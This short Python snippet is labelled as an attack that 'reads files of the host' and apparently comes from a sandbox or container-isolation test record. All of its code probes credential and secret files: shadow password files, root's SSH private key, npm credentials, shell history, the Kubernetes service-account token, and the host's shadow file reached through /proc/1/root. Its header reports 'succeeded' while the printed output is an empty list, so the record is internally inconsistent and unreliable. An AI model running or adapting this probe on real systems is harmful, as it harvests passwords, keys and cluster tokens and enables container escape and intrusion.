# attack: reads files of the host
# status: succeeded
# stdout: []
got = []
for f in ("/etc/shadow", "/etc/gshadow", "/root/.ssh/id_rsa", "/root/.npmrc", "/root/.bash_history", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets", "/proc/1/root/etc/shadow"):
    try: open(f).read(); got.append(f)
    except OSError: pass
print(got)
